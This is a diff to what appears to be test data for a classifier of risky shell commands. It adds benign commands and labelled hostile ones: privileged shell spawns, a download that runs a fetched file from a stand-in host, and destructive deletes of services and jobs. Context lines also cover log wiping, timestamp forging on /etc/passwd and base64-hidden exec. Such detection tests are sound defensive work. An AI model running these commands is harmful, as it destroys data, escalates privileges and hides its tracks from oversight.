@@ -124,6 +124,14 @@ crontab -u bob -l
 touch -d '2 hours ago' fixture.txt
 history -p '!!:1'
 ln -s `canonical.bash foo` bar
+ls -l /bin/sh && grep -l '#!/bin/bash' bin/*
+docker run --rm -it alpine /bin/sh
+git checkout -b topic origin/main
+curl -X DELETE localhost:3000/users/1
+curl https://api.twilio.com/status
+rsync -a --delete build/ site/
+split -l 100 data.csv
+cat a.txt | less
 python3 -c 'import os; os.system("ls")'
 python3 -c 'import subprocess; print(subprocess.run(["git", "log"], stdout=subprocess.PIPE).stdout)'
 python3 -c 'import os; os.unlink(tmp.name); os.chmod("run.sh", 0o755)'
@@ -259,6 +267,17 @@ files.find-delete           find / -user bob -exec chown eva {} +
 files.find-delete-all       find . -mindepth 1 -delete
 files.delete-listed         cat list | xargs rm -rf
 coverup.logs                find /var/log -name '*.gz' -exec truncate -s 0 {} +
+shell.starts-shell          nice /bin/sh -p
+shell.starts-shell          cat list | xargs -I{} bash -c {}
+shell.starts-shell          vim -c ':!id' a.txt
+shell.bare-shell            bash -p
+shell.loads-code            aria2c --on-download-complete=./x https://e.example/a
+git.discard-work            git checkout HEAD a.c
+git.discard-work            git switch -qf main
+clouds.services             nats stream purge ORDERS
+clouds.services             java -jar jenkins-cli.jar -s http://ci.example/ delete-job x
+network.admin-api           curl localhost:9200/orders -X DELETE
+network.copy-to             rsync -a --delete /srv/a/ /srv/b/
 coverup.timestamps          touch -d '2020-01-01' /etc/passwd
 code.deletes                python3 -c 'import shutil; shutil.rmtree("/srv")'
 code.hidden                 python3 -c 'exec(__import__("base64").b64decode("eA=="))'
